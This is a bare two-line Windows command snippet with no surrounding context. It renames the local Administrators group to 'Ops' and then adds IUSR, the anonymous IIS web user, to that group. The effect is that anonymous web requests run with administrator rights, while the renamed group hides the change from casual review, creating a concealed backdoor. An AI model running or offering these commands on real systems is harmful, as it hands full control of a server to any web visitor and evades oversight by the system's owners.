Rename-LocalGroup -Name Administrators -NewName Ops
net localgroup Ops IUSR /add
